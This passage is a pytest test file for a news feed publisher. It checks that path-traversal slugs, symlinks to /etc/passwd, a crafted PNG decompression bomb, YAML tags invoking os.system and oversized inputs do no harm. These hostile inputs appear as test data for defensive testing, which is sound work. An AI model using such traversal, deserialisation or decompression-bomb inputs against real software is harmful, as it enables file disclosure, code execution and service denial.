    assert news.files() == before
    with pytest.raises(StoreCorruptError):
        news.publish(now=NOW + timedelta(days=1))
    report = news.publish(now=NOW + timedelta(days=1), rebuild=True)
    assert not report.failed
    assert news.files() == before
    assert report.written == ()
    assert [path.name for path in news.config.state.glob("store.sqlite3.2*")], "the damaged one is kept"
    code, stdout, _ = run("status", "--config", config)
    assert code == 0
    assert "1 record withdrawn" in stdout


@pytest.mark.parametrize("command", ["status", "quarantine"])
def test_looking_at_a_damaged_store_says_so(news: Newsroom, command: str) -> None:
    config = configured(news)
    run("publish", "--config", config)
    (news.config.state / "store.sqlite3").write_bytes(b"rubbish" * 5000)
    code, _, stderr = run(command, "--config", config)
    told_and_whole(code, stderr, "damaged", "--rebuild")


def test_a_wrong_key_in_the_configuration_is_named_with_the_nearest_right_one(news: Newsroom) -> None:
    config = configured(news)
    assert run("publish", "--config", config)[0] == 0
    before = news.files()
    text = Path(config).read_text()
    text = text.replace("title =", "titel =").replace("path =", "pfad =") + "feed_by = ['section']\n"
    Path(config).write_text(text)
    code, stdout, stderr = run("publish", "--config", config)
    assert (code, stdout) == (2, "")
    assert "feedpub.toml" in stderr
    assert "line 2: site.titel: there is no such key; did you mean site.title?" in stderr
    assert "did you mean publish.feeds_by?" in stderr
    assert "sources.articles" in stderr
    assert news.files() == before


# -- paths that lead out


SLUGS = [
    "../../etc/x", "/etc/x", "..", "../..", "..%2f..%2fetc%2fx", '"..\\\\..\\\\x"', '"a\\0b"', "C:\\x", "con.html",
    '"\\u002e\\u002e/x"', "x" * 5000, "-", "'.'", "a/../../../b", "~root", "$HOME", "index.html", "\u2025/\u2025/x",
]  # fmt: skip


@pytest.mark.parametrize("kind", ["md", "json"])
def test_a_slug_leads_nowhere_else(news: Newsroom, control: dict[str, bytes], kind: str) -> None:
    around = {path for path in news.root.parent.rglob("*") if news.articles not in path.parents}
    for number, slug in enumerate(SLUGS):
        if kind == "md":
            news.write(f"{number}.md", markdown(f"Slug {number}", slug=slug, aliases="[../../a, /etc/b]"))
        else:
            plain = slug.strip("\"'").replace("\\0", "\0")
            news.write(f"{number}.json", json.dumps({**ARTICLE, "headline": f"Slug {number}", "slug": plain}))
    report = timed_publish(news)
    assert not report.failed
    unharmed(news, control)
    pages = [path for path in news.files() if path.endswith(".html") and path.startswith("articles/")]
    assert len(pages) == report.articles
    assert report.articles + len(report.held) == len(TITLES) + len(SLUGS)
    for path in pages:
        assert re.fullmatch(r"articles/(\d{4}/\d\d|undated)/[a-z0-9-]{1,80}\.html", path), path
    new = {path for path in news.root.parent.rglob("*") if news.articles not in path.parents} - around
    allowed = (news.output, news.config.state)
    assert all(path in allowed or any(folder in path.parents for folder in allowed) for path in new)


@pytest.mark.parametrize("facet", ["section", "author", "tags"])
def test_a_name_that_becomes_a_folder_leads_nowhere_else(news: Newsroom, facet: str) -> None:
    news.configure(publish=replace(news.config.publish, feeds_by=("section", "author", "keyword")))
    for number, name in enumerate(SLUGS):
        value = f"[{json.dumps(name)}]" if facet == "tags" else json.dumps(name)
        news.write(f"{number}.md", markdown(f"Name {number}", **{facet: value}))
    report = timed_publish(news)
    assert not report.failed
    for path in news.files():
        assert ".." not in path.split("/")
        assert re.fullmatch(r"[A-Za-z0-9._/-]{1,200}", path), path
    assert sorted(path.name for path in news.root.iterdir()) == [".feedpub", "articles", "feeds"]


def picture(width: int = 8, height: int = 8) -> bytes:
    from PIL import Image

    target = io.BytesIO()
    Image.new("RGB", (width, height), "red").save(target, "PNG")
    return target.getvalue()


def test_a_picture_outside_the_source_is_not_taken_however_it_is_named(
    news: Newsroom, control: dict[str, bytes]
) -> None:
    secret = news.root / "secret.png"
    secret.write_bytes(picture())
    (news.articles / "linked.png").symlink_to(secret)
    (news.articles / "passwd.png").symlink_to("/etc/passwd")
    (news.articles / "folder").symlink_to(news.root)
    (news.articles / "loop.png").symlink_to("loop.png")
    names = [
        "../secret.png", "../../../../../../etc/passwd", "/etc/passwd", str(secret), f"file://{secret}", "linked.png",
        "passwd.png", "folder/secret.png", "loop.png", "..%2fsecret.png", "good/../../secret.png", "good",
    ]  # fmt: skip
    for number, name in enumerate(names):
        quoted = json.dumps(name)
        news.write(f"{number}.md", markdown(f"Picture {number}", f"{BODY} ![x]({name})", image=quoted))
    report = timed_publish(news)
    assert report.held == ()
    unharmed(news, control)
    assert not (news.output / "media").exists()
    red = secret.read_bytes()
    users = Path("/etc/passwd").read_bytes()
    for path, content in news.files().items():
        assert red not in content, path
        assert users not in content, path
        assert str(news.root).encode() not in content, path
    missing = {advice.place for advice in report.advice if advice.rule.startswith("image")}
    assert len(missing) >= len(names) - 1, "each is told"


def png(width: int, height: int, data: bytes) -> bytes:
    def chunk(kind: bytes, content: bytes) -> bytes:
        return (
            struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
        )

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def test_a_picture_that_unpacks_to_gigabytes_is_never_unpacked(
    news: Newsroom, control: dict[str, bytes]
) -> None:
    bomb = png(60_000, 60_000, zlib.compress(bytes(20_000_000), 9))  # says that it is 10 GB of pixels
    assert len(bomb) < 100_000
    (news.articles / "bomb.png").write_bytes(bomb)
    news.write("pictured.md", markdown("Pictured", image="bomb.png"))
    with (news.articles / "huge.png").open("wb") as file:
        file.write(picture())
        file.truncate(60_000_000)
    news.write("huge.md", markdown("Huge", image="huge.png"))

    def publish() -> list[Any]:
        news.publish(only=[])
        before = isolation.peak_memory()
        begin = time.perf_counter()
        report = news.publish()
        assert report.held == ()
        advice = [[a.place, a.rule] for a in report.advice if a.rule.startswith("image")]
        return [time.perf_counter() - begin, isolation.peak_memory() - before, advice]

    seconds, grown, advice = isolation.in_child(publish)
    assert seconds < 2
    assert grown < 60_000_000
    assert advice == [["huge.md", "image-missing"]]
    unharmed(news, control)
    (enclosure,) = entries(news)["Pictured"].enclosures
    assert int(enclosure.length) == len(bomb)
    assert news.read(enclosure.href.removeprefix("https://news.example/")) == bomb


def test_tags_of_yaml_make_no_object(news: Newsroom, control: dict[str, bytes]) -> None:
    mark = news.root / "carried-out"
    for number, tag in enumerate(
        [
            f"!!python/object/apply:os.system ['touch {mark}']",
            f"!!python/object/apply:subprocess.check_output [['touch', '{mark}']]",
            "!!python/name:os.system",
            "!!python/module:os",
            f"!!python/object/new:os.system ['touch {mark}']",
            "!!python/object:feedpub.models.Agent {name: x}",
            "!include /etc/passwd",
            "!ENV ${HOME}",
        ]
    ):
        news.write(
            f"tag-{number}.md", f"---\ntitle: {tag}\nsummary: {tag}\ndate: 2025-09-01\n---\n\n{BODY}\n"
        )
    report = timed_publish(news)
    assert not report.failed
    assert not mark.exists()
    unharmed(news, control)
    for content in news.files().values():
        assert b"root:x:0" not in content
        assert os.environ.get("HOME", "/root").encode() + b"<" not in content


# -- far too much of something that is fine


def largest(newsroom: Newsroom) -> int:
    return max(map(len, newsroom.files().values()))


TOO_MUCH = {
    "title.json": json.dumps({**ARTICLE, "headline": "Word " * 200_000}),
    "title.html": page().replace("<title>Page", "<title>" + "Word " * 200_000),
    "title.txt": f"Title: {'Word ' * 200_000}\nDate: 2025-09-01\n\n{BODY}\n",
    "title-letters.txt": f"{'T' * 1_000_000}\n\n{BODY}\n",
    "keywords.json": json.dumps({**ARTICLE, "keywords": [f"k{n}" for n in range(10_000)]}),
    "keywords.md": markdown("Large", tags=f"[{', '.join(f'k{n}' for n in range(10_000))}]"),
    "keywords.html": page(head=f'<meta name="keywords" content="{", ".join(f"k{n}" for n in range(10_000))}">'),
    "events.json": json.dumps(
        {**ARTICLE, "about": [{"@type": "Event", "name": f"E{n}", "startDate": "2025-10-01"} for n in range(100_000)]}
    ),
    "events.html": page(
        head=script(json.dumps({**ARTICLE, "about": [{"@type": "Event", "name": f"E{n}"} for n in range(100_000)]}))
    ),
    "events.md": markdown(events=f"[{', '.join(f'{{name: E{n}}}' for n in range(100_000))}]"),
    "authors.json": json.dumps({**ARTICLE, "author": [{"@type": "Person", "name": f"P{n}"} for n in range(10_000)]}),
    "images.json": json.dumps({**ARTICLE, "image": [f"https://x.example/{n}.jpg" for n in range(20_000)]}),
    "elements.html": page(body="<div>" * 100_000 + f"<p>{BODY}</p>"),
    "scripts.html": page(head=script("{}") * 5_000),
    "nested-ld.html": page(head=script('{"a":' * 100_000)),
    "nested.md": markdown("Large", "> " * 20_000 + BODY),
}  # fmt: skip


@pytest.mark.parametrize("name", TOO_MUCH)
def test_far_too_much_of_something_costs_seconds_and_harms_nothing(
    news: Newsroom, control: dict[str, bytes], name: str
) -> None:
    news.write(name, TOO_MUCH[name])
    report = timed_publish(news)
    assert not report.failed
    unharmed(news, control)
    assert report.articles + len(report.held) == len(TITLES) + 1
    for held in report.held:
        assert held.place == name
        assert all(problem.message and problem.remedy for problem in held.problems)
    assert largest(news) < 10_000_000


@pytest.mark.parametrize(
    "name", ["title.json", "title.html", "keywords.json", "events.json", "authors.json", "images.json"]
)
def test_what_is_cut_off_is_told(news: Newsroom, name: str) -> None:
    news.write(name, TOO_MUCH[name])
    report = news.publish()
    told = [problem for held in report.held for problem in held.problems] + list(report.advice)
    assert [problem for problem in told if problem.place == name]


def test_after_everything_was_bad_once_the_mended_articles_are_published(
    news: Newsroom, control: dict[str, bytes]
) -> None:
    for name in GOOD:
        news.write(name, b"\x89PNG\r\n\x1a\n")
    report = news.publish()
    assert sorted(held.place for held in report.held) == sorted(GOOD)
    assert entries(news) == {}
    for name, content in GOOD.items():
        news.write(name, content)
    assert news.publish().held == ()
    unharmed(news, control)
    shutil.rmtree(news.output)
    news.publish()
    unharmed(news, control)
